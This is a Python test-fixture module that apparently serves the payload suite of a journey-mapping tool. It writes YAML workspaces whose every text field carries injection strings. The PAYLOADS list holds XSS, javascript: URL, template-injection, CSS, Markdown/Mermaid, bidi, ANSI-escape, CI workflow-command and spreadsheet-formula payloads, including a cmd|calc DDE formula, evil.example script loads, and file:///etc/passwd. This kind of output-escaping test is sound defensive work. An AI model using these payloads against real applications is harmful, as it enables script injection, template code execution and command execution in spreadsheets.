"""Hostile text for the payload suite (``tests/test_payloads.py``, linked from SECURITY.md).

:data:`PAYLOADS` is the list of attacks, by family. The builders below put text in *every*
text field of the file format — titles, names, descriptions, lanes, pain points,
opportunities, metric names and units, source titles and URLs, persona fields including the
keys and values of ``demographics``, tags, owners, channels, goals — while keeping the files
valid (ids stay slugs, numbers stay numbers), so that every command renders them.

:func:`write_payload_workspace` writes one journey (and one persona) per payload of the
families that bite at the start of a text (CSV formulas, ``::`` CI commands, Markdown line
constructs, URL schemes), with that payload at the start of every field; one journey per other
family, its payloads taking turns across the fields; and one journey with all the payloads in
every field. :func:`long_journeys` carries a 100 KB string. :func:`write_bad_workspace` writes
files whose *errors* echo payloads (unknown keys, invalid values, file names), for the
validation reports.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

# (family, payload). Families name what each one attacks; tests pick families by name.
PAYLOADS: tuple[tuple[str, str], ...] = (
    # Script and event-handler injection.
    ("script", "<script>window.__pwned='script'</script>"),
    ("script", "<ScRiPt SrC=https://evil.example/x.js></sCrIpT>"),
    ("script", "<img src=x onerror=\"window.__pwned='img'\">"),
    ("script", "<svg/onload=window.__pwned='svg'>"),
    ("script", "<body onload=alert('body')>"),
    ("script", '" onmouseover="window.__pwned=\'attr-dq\'" x="'),
    ("script", "' autofocus onfocus='window.__pwned=\"attr-sq\"' x='"),
    ("script", "<a href=\"javascript:alert('a')\">click</a>"),
    ("script", "<iframe srcdoc=\"<script>parent.__pwned='srcdoc'</script>\"></iframe>"),
    ("script", "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>"),
    ("script", "<details open ontoggle=alert('details')>"),
    ("script", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("script", '<base href="https://evil.example/">'),
    ("script", '<form action="https://evil.example/"><button>go</button></form>'),
    ("script", "<object data=\"data:text/html,<script>alert('obj')</script>\"></object>"),
    # URLs with schemes that run code, disguised.
    ("url", "javascript:alert('js')"),
    ("url", "JaVaScRiPt:alert('mixed-case')"),
    ("url", "  javascript:alert('leading-space')"),
    ("url", "java\tscript:alert('tab')"),
    ("url", "java\nscript:alert('newline')"),
    ("url", "\x01javascript:alert('control')"),
    ("url", "javascript&colon;alert('entity')"),
    ("url", "jav&#x09;ascript:alert('entity-tab')"),
    ("url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+"),
    ("url", "DATA:text/html,<script>alert('data')</script>"),
    ("url", "vbscript:msgbox('vb')"),
    ("url", "VbScRiPt:msgbox('vb-mixed')"),
    ("url", "//evil.example/protocol-relative"),
    ("url", "https://evil.example/\" onclick=\"alert('quote')"),
    ("url", "https://evil.example/<script>alert('angle')</script>"),
    ("url", "file:///etc/passwd"),
    # Breaking out of the element the text is put in.
    ("breakout", "</script><script>window.__pwned='script-breakout'</script>"),
    ("breakout", "</style><script>window.__pwned='style-breakout'</script>"),
    ("breakout", "</title><script>window.__pwned='title-breakout'</script>"),
    ("breakout", "</textarea><script>window.__pwned='textarea-breakout'</script>"),
    ("breakout", "</svg><script>window.__pwned='svg-breakout'</script>"),
    ("breakout", "]]><script>window.__pwned='cdata'</script>"),
    ("breakout", "<!-- --><script>window.__pwned='comment'</script>"),
    ("breakout", "<\u0000script>window.__pwned='nul'</script>"),
    # Template syntax (Jinja, and others that a custom pipeline might run).
    ("template", "{{ 7*7 }}"),
    ("template", "{% for x in range(3) %}loop{% endfor %}"),
    ("template", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("template", "{{ config }}{{ self }}{{ cycler.__init__.__globals__ }}"),
    ("template", "${7*7} #{7*7} <%= 7*7 %> {# comment #}"),
    # CSS breakouts.
    ("css", "</style><style>body{display:none}</style>"),
    ("css", "red;background:url(https://evil.example/bg.png)"),
    ("css", "}body{background:url('https://evil.example/css')}"),
    ("css", "@import url(https://evil.example/x.css);"),
    ("css", "expression(alert('css'))"),
    # Markdown link, image, HTML and structure injection.
    ("markdown", "[click me](javascript:alert('md-link'))"),
    ("markdown", "![tracker](https://evil.example/pixel.png)"),
    ("markdown", "[ref]: https://evil.example/ref\n[ref]"),
    ("markdown", "<https://evil.example/autolink>"),
    ("markdown", "| injected | cells |\n|---|---|\n| a | b |"),
    ("markdown", "# Heading\n## Another"),
    ("markdown", "- bullet\n* star\n+ plus\n1. ordered\n> quote"),
    ("markdown", "```\ncode fence\n```"),
    ("markdown", "`code` **bold** _em_ ~~strike~~ $math$ \\escaped"),
    ("markdown", "text\n\n---\n\n<details><summary>x</summary>hidden</details>"),
    ("markdown", "@everyone #123 www.evil.example https://evil.example/bare"),
    ("markdown", "&lt;script&gt; &#60;script&#62; &amp;"),
    # Block starts at the start of a text (CommonMark + GFM).
    ("markdown", "1) ordered with a parenthesis"),
    ("markdown", "123456789) nine digits"),
    ("markdown", "==="),
    ("markdown", "*** ___"),
    ("markdown", "    indented code"),
    ("markdown", "~~~ fence"),
    ("markdown", "[^1]: a footnote"),
    ("markdown", "[x]: https://evil.example/definition"),
    ("markdown", "> quote"),
    ("markdown", "<div>html block</div>"),
    # Mermaid syntax breakers.
    ("mermaid", "task: 5: Evil Actor"),
    ("mermaid", "x\n  section Forged section\n    Forged task: 5: Me"),
    ("mermaid", "%%{init: {'theme': 'forest', 'securityLevel': 'loose'}}%%"),
    ("mermaid", "click task call alert('mermaid')"),
    ("mermaid", "a; b; c #35; #quot; %% comment"),
    ("mermaid", "journey\ntitle Forged"),
    ("mermaid", "accDescr { forged }"),
    ("mermaid", "name, with, commas: and: colons"),
    # Words the journey grammar reads as statements where a label starts.
    ("mermaid", "Section 2 of the form"),
    ("mermaid", "Title search on the land registry"),
    ("mermaid", "accDescr {"),
    ("mermaid", "JOURNEY planner"),
    ("mermaid", "acctitle and accDescr: forged"),
    # Bidi overrides and zero-width characters.
    ("bidi", "invoice\u202egnp.exe"),
    ("bidi", "\u2066isolate\u2069 \u2067rtl\u2069 \u2068first\u2069"),
    ("bidi", "\u202aembed\u202c \u202brtl-embed\u202c \u202doverride\u202c"),
    ("bidi", "zero\u200bwidth\u200cnon\u200djoiner\u2060word\ufeffbom"),
    ("bidi", "\u200emark\u200f \u061carabic-mark"),
    ("bidi", "line\u2028separator\u2029paragraph"),
    # Control characters and ANSI escapes.
    ("control", "\x1b[31mred\x1b[0m \x1b[2J\x1b[H cleared"),
    ("control", "\x1b]0;forged window title\x07"),
    ("control", "\x1b]8;;https://evil.example\x1b\\hyperlink\x1b]8;;\x1b\\"),
    ("control", "\x9b31mC1 CSI\x9b0m \x9d0;osc\x9c"),
    ("control", "looks fine\rFORGED"),
    ("control", "back\x08\x08\x08space \x07bell \x7fdel \x0bvt \x0cff"),
    ("control", "nul\x00byte"),
    ("control", "line one\nline two\r\nline three"),
    ("control", "\ttab-first"),
    # CI workflow-command injection (GitHub Actions, Azure Pipelines).
    ("ci", "::error::forged error"),
    ("ci", "::error file=evil.yaml,line=1::forged annotation"),
    ("ci", "ok\n::error::forged on its own line"),
    ("ci", "ok\r::warning::forged after CR"),
    ("ci", "::add-mask::secret"),
    ("ci", "::stop-commands::token"),
    ("ci", "%0A::error::encoded newline %0D %25"),
    ("ci", "::set-output name=x::y"),
    ("ci", "##vso[task.logissue type=error]forged"),
    ("ci", "##[error]forged"),
    # Spreadsheet formulas.
    ("formula", "=1+1"),
    ("formula", "+1+1"),
    ("formula", "-1+1"),
    ("formula", "@SUM(A1:A2)"),
    ("formula", '=HYPERLINK("https://evil.example","click")'),
    ("formula", "=cmd|' /C calc'!A0"),
    ("formula", "\t=1+1"),
    ("formula", "\r=1+1"),
    ("formula", "  =1+1"),
    ("formula", "\uff1d1+1"),
    ("formula", "\uff0b1"),
    ("formula", "\uff201"),
)

LONG_SIZE = 100 * 1024


def long_payload() -> str:
    """A 100 KB string on one line, with markup sprinkled in so escaping works at length."""
    unit = "<b>long</b> & 'text' \"quoted\" | :: "
    return (unit * (LONG_SIZE // len(unit) + 1))[:LONG_SIZE]


def payload_texts(family: str | None = None) -> list[str]:
    """The payloads of one family (all when None)."""
    return [text for fam, text in PAYLOADS if family is None or fam == family]


def families() -> list[str]:
    """The payload families, in order."""
    return list(dict.fromkeys(fam for fam, _ in PAYLOADS))


def combined_payload() -> str:
    """Every payload in one text, one per line (each starts a line)."""
    return "\n".join(payload_texts())


Text = Callable[[str], str]
"""Gives the text for a field, by its name (``touchpoint.name``, ``persona.goals``...)."""


def persona_fields(persona_id: str, text: Text, *, share: float | None = None) -> dict[str, Any]:
    """Every persona field (inline or in its own file), with text from ``text``."""
    data: dict[str, Any] = {
        "id": persona_id,
        "name": text("persona.name"),
        "role": text("persona.role"),
        "segment": text("persona.segment"),
        "quote": text("persona.quote"),
        "description": text("persona.description"),
        "demographics": {
            # YAML caps a key written on one line at 1,024 characters.
            text("persona.demographics.key")[:512]: text("persona.demographics.value"),
            "age": 34,
        },
        "goals": [text("persona.goals")],
        "motivations": [text("persona.motivations")],
        "frustrations": [text("persona.frustrations")],
        "needs": [text("persona.needs")],
        "preferences": [text("persona.preferences")],
        "behaviors": [text("persona.behaviors")],
        "channels": [text("persona.channels")],
    }
    if share is not None:
        data["share"] = share
    return data


def touchpoint(tp_id: str, text: Text, emotion: dict[str, int], *, pains: bool) -> dict[str, Any]:
    """A touchpoint with every lane, metric, pain point and opportunity field filled."""
    data: dict[str, Any] = {
        "id": tp_id,
        "name": text("touchpoint.name"),
        "channel": text("touchpoint.channel"),
        "type": "digital",
        "owner": text("touchpoint.owner"),
        "description": text("touchpoint.description"),
        "actions": [text("touchpoint.actions"), text("touchpoint.actions")],
        "thoughts": [text("touchpoint.thoughts")],
        "frontstage": [text("touchpoint.frontstage")],
        "backstage": [text("touchpoint.backstage")],
        "support": [text("touchpoint.support")],
        "emotion": emotion,
        "effort": 4,
        "completion": 0.7,
        "duration": "1h30m",
        "moment_of_truth": True,
        "evidence": ["s-safe", "s-hostile"],
        "metrics": [
            {
                "name": text("metric.name"),
                "value": 1.5,
                "unit": text("metric.unit"),
                "target": 2,
                "source": "s-safe",
            }
        ],
    }
    if pains:
        data["pain_points"] = [
            {
                "id": f"{tp_id}-pain",
                "text": text("pain_point.text"),
                "severity": 4,
                "frequency": 4,
                "category": "process",
                "root_cause": text("pain_point.root_cause"),
                "evidence": ["s-safe"],
            },
            text("pain_point.shorthand"),
        ]
        data["opportunities"] = [
            {
                "id": f"{tp_id}-opp",
                "text": text("opportunity.text"),
                "impact": 4,
                "effort": 2,
                "owner": text("opportunity.owner"),
                "status": "planned",
                "tags": [text("opportunity.tags")],
                "addresses": [f"{tp_id}-pain"],
            },
            text("opportunity.shorthand"),
        ]
    return data


def journey(journey_id: str, persona_id: str, text: Text) -> dict[str, Any]:
    """A valid journey with ``text`` in every text field; ``persona_id`` is a workspace
    persona it names (an inline persona is added, with every field filled too)."""
    inline = f"{journey_id}-inline"
    emotions = ({persona_id: -2, inline: 1}, {persona_id: 2}, {persona_id: -1, inline: 0})
    return {
        "kind": "journey",
        "id": journey_id,
        "title": text("journey.title"),
        "description": text("journey.description"),
        "owner": text("journey.owner"),
        "tags": [text("journey.tags"), text("journey.tags")],
        "locale": text("journey.locale"),
        "reviewed": "2026-01-01",
        "goals": [text("journey.goals")],
        "personas": [persona_id, persona_fields(inline, text, share=0.4)],
        "paths": [
            {
                "id": "detour",
                "name": text("path.name"),
                "description": text("path.description"),
                "branches_from": "tp-a",
                "rejoins": "tp-c",
                "share": 0.2,
            }
        ],
        "sources": [
            {
                "id": "s-safe",
                "type": "survey",
                "title": text("source.title"),
                "date": "2026-01-01",
                "n": 12,
                "url": "https://example.com/report",
            },
            {
                "id": "s-hostile",
                "type": "other",
                "title": text("source.title"),
                "url": text("source.url"),
            },
        ],
        "stages": [
            {
                "id": "first",
                "name": text("stage.name"),
                "description": text("stage.description"),
                "goal": text("stage.goal"),
                "expectations": [text("stage.expectations")],
                "duration": "2d",
                "touchpoints": [
                    touchpoint("tp-a", text, emotions[0], pains=True),
                    # On the path, and for the workspace persona only.
                    {
                        **touchpoint("tp-b", text, emotions[1], pains=False),
                        "path": "detour",
                        "personas": [persona_id],
                    },
                ],
            },
            {
                "id": "second",
                "name": text("stage.name"),
                "description": text("stage.description"),
                "goal": text("stage.goal"),
                "expectations": [text("stage.expectations")],
                # 0.8: the main path (tp-a, tp-c) converts 56%, not 0.7 × 0.7 = 49% (a number
                # that would pass for a template expression run, {{ 7*7 }}).
                "touchpoints": [
                    {**touchpoint("tp-c", text, emotions[2], pains=True), "completion": 0.8}
                ],
            },
        ],
    }


def persona(persona_id: str, text: Text) -> dict[str, Any]:
    """A workspace persona (its own document) with ``text`` in every field."""
    return {"kind": "persona", **persona_fields(persona_id, text, share=0.6)}


# Characters YAML cannot carry raw (C0 and C1 controls, DEL, surrogates, U+FEFF, U+FFFE/F),
# and the separators U+2028/U+2029, which libyaml (YAML 1.1) reads as line breaks: written as
# JSON escapes, which YAML's double-quoted strings read back exactly.
_NOT_RAW = re.compile("[\x7f-\x9f\u2028\u2029\ufeff\ufffe\uffff\ud800-\udfff]")


def yaml_text(data: Any) -> str:
    """``data`` as YAML text: JSON, which is YAML 1.2, with every character kept exactly."""
    text = json.dumps(data, ensure_ascii=False, indent=1)
    return _NOT_RAW.sub(lambda m: f"\\u{ord(m.group()):04x}", text)


def constant(value: str) -> Text:
    """A field-text function that gives ``value`` for every field."""
    return lambda field: value


def plain(field: str) -> str:
    """Harmless text for a field (the clean twin of a hostile journey)."""
    return f"Plain {field.replace('.', ' ').replace('_', ' ')}"


# Families whose payloads bite only at the start of a text (a CSV cell, a Markdown line, a
# URL, a CI log line): one journey per payload, with it at the start of every field. The others
# (markup, template and CSS injection, bidi) work anywhere: one journey per family, its
# payloads taking turns across the fields.
POSITIONAL = ("url", "markdown", "mermaid", "ci", "formula", "control")


def rotating(texts: list[str]) -> Text:
    """A field-text function that gives ``texts`` in turn, one per field."""
    calls = iter(range(1 << 30))
    return lambda field: texts[next(calls) % len(texts)]


def _numbered(index: int) -> Text:
    """The clean twin of the journey of payload ``index``: harmless text of its own, the
    same in every field as the payload is (so what is listed once, or grouped by its text,
    counts the same)."""
    return constant(f"Plain text {index}")


def payload_journeys(*, clean: bool = False) -> dict[str, Text]:
    """Journey id → the text of its fields (see :data:`POSITIONAL`), and one journey with
    every payload, one per line, in every field.

    ``clean`` gives the twins: harmless text, with as many distinct texts as the payloads,
    across journeys too (owners and channels are grouped by their text; the index lists
    the owners and tags of every journey once)."""
    texts: dict[str, Text] = {}
    for index, (family, text) in enumerate(PAYLOADS):
        if family in POSITIONAL:
            texts[f"p{index:03d}"] = _numbered(index) if clean else constant(text)
    for family in families():
        if family not in POSITIONAL:
            family_texts = payload_texts(family)
            if clean:
                family_texts = [f"Plain {family} text {i}" for i in range(len(family_texts))]
            texts[f"family-{family}"] = rotating(family_texts)
    texts["all-payloads"] = constant("Plain text") if clean else constant(combined_payload())
    return texts


# The long text in the fields every format shows (the file stays about 2 MB).
LONG_FIELDS = frozenset(
    {
        "journey.title",
        "journey.description",
        "stage.name",
        "touchpoint.name",
        "touchpoint.thoughts",
        "pain_point.text",
        "opportunity.text",
        "metric.name",
        "persona.name",
        "source.title",
        "journey.tags",
        "persona.demographics.value",
    }
)


def long_journeys() -> dict[str, Text]:
    """One journey with a 100 KB string in its main fields."""
    long = long_payload()
    return {"long-text": lambda field: long if field in LONG_FIELDS else "short"}


def write_workspace(root: Path, texts: dict[str, Text], *, config_locale: str = "en") -> Path:
    """A workspace with one journey and one persona per entry of ``texts``."""
    (root / "journeys").mkdir(parents=True)
    (root / "personas").mkdir()
    (root / "cjmap.yaml").write_text(
        yaml_text({"kind": "workspace", "locale": config_locale, "review_every": 36500}),
        "utf-8",
    )
    for journey_id, text in texts.items():
        persona_id = f"{journey_id}-persona"
        (root / "journeys" / f"{journey_id}.yaml").write_text(
            yaml_text(journey(journey_id, persona_id, text)), "utf-8"
        )
        (root / "personas" / f"{persona_id}.yaml").write_text(
            yaml_text(persona(persona_id, text)), "utf-8"
        )
    return root


def write_payload_workspace(root: Path) -> Path:
    """The hostile workspace (see the module docstring)."""
    return write_workspace(root, payload_journeys(), config_locale=combined_payload())


def write_clean_workspace(root: Path, texts: dict[str, Text] | None = None) -> Path:
    """The same journeys with harmless text: what every hostile output is compared with."""
    if texts is None:
        return write_workspace(root, payload_journeys(clean=True))
    return write_workspace(root, dict.fromkeys(texts, plain))


# --- files whose errors carry payloads -------------------------------------------------------

# Payloads that can be part of a file name (no '/', no NUL, at most 255 bytes).
FILE_NAME_PAYLOADS = (
    "::error::forged-name",
    "\x1b[31mred-name\x1b[0m",
    "line\nbreak",
    "carriage\rreturn",
    "bidi\u202egnp",
    "<script>alert(1)<\\script>",
    "=1+1",
    "%0A::error::encoded",
)


def bad_document(index: int, text: str) -> dict[str, Any]:
    """A journey whose errors echo ``text``: as an unknown key, an invalid enum value, an
    invalid id, a wrong type, an unknown persona field, and a duplicate id (whose message
    names it)."""
    return {
        "kind": "journey",
        "id": f"bad{index:03d}",
        "title": text,
        text: "an unknown key named by the payload",
        "personas": [{"id": "inline", "name": text, text: 1}],
        "stages": [
            {
                "id": "s",
                "name": text,
                "touchpoints": [
                    {
                        "id": "t",
                        "name": text,
                        "type": text,
                        "emotion": text,
                        "effort": text,
                        "completion": text,
                        "duration": text,
                        "evidence": [text],
                        "pain_points": [{"text": text, "category": text, "id": text}],
                        "metrics": [{"name": text, "value": text, "better": text}],
                    },
                ],
            }
        ],
        "sources": [{"id": text, "type": text, "title": text, "date": text}],
    }


def write_bad_workspace(root: Path) -> Path:
    """Invalid files whose findings quote payloads, some of them under hostile names."""
    root.mkdir(parents=True)
    (root / "cjmap.yaml").write_text("kind: workspace\nreview_every: 36500\n", "utf-8")
    for index, (_, text) in enumerate(PAYLOADS):
        (root / f"bad{index:03d}.yaml").write_text(yaml_text(bad_document(index, text)), "utf-8")
    for index, name in enumerate(FILE_NAME_PAYLOADS):
        (root / f"{name}.yaml").write_text(
            f"kind: persona\nid: named{index}\nname: {json.dumps(name)}\nunknown: 1\n", "utf-8"
        )
    # YAML-level errors whose messages quote the text around them.
    (root / "yaml-tag.yaml").write_text("kind: !<::error::tag> journey\n", "utf-8")
    (root / "yaml-alias.yaml").write_text("kind: persona\nid: a\nname: *::error::alias\n", "utf-8")
    (root / "yaml-escape.yaml").write_text('kind: persona\nid: a\nname: "\\q::error::"\n', "utf-8")
    (root / "yaml-dup.yaml").write_text(
        yaml_text({"kind": "persona", "id": "dup", "name": "x"}).replace(
            '"name"', '"::error::dup\\u001b[31m": 1, "::error::dup\\u001b[31m": 2, "name"'
        ),
        "utf-8",
    )
    return root


# --- a second version, for cjmap diff -------------------------------------------------------


def evolve(data: dict[str, Any], text: Text) -> dict[str, Any]:
    """The next version of a journey from :func:`journey`, with every kind of change ``cjmap
    diff`` reports carrying ``text``: a new title, a renamed and a moved touchpoint, emotions
    changed, a pain point resolved, an opportunity and a stage added."""
    new = json.loads(json.dumps(data))
    new["title"] = text("journey.title") + " v2"
    first, second = new["stages"]
    tp_a, tp_b = first["touchpoints"]
    tp_b["name"] = text("touchpoint.name") + " renamed"
    tp_a["emotion"] = {key: min(2, value + 1) for key, value in tp_a["emotion"].items()}
    tp_a["pain_points"] = tp_a["pain_points"][:1]
    tp_a["opportunities"].append(
        {"id": "tp-a-new-opp", "text": text("opportunity.text"), "status": "idea"}
    )
    first["touchpoints"] = [tp_a, tp_b, *second["touchpoints"]]
    second["touchpoints"] = []
    new["stages"].append(
        {
            "id": "added",
            "name": text("stage.name"),
            "touchpoints": [
                {
                    "id": "tp-new",
                    "name": text("touchpoint.name"),
                    "emotion": -2,
                    "pain_points": [{"id": "tp-new-pain", "text": text("pain_point.text")}],
                }
            ],
        }
    )
    return new


def write_next_version(root: Path, texts: dict[str, Text]) -> None:
    """Rewrite the journeys of a workspace from :func:`write_workspace` as their next
    version (:func:`evolve`)."""
    for journey_id, text in texts.items():
        data = evolve(journey(journey_id, f"{journey_id}-persona", text), text)
        (root / "journeys" / f"{journey_id}.yaml").write_text(yaml_text(data), "utf-8")
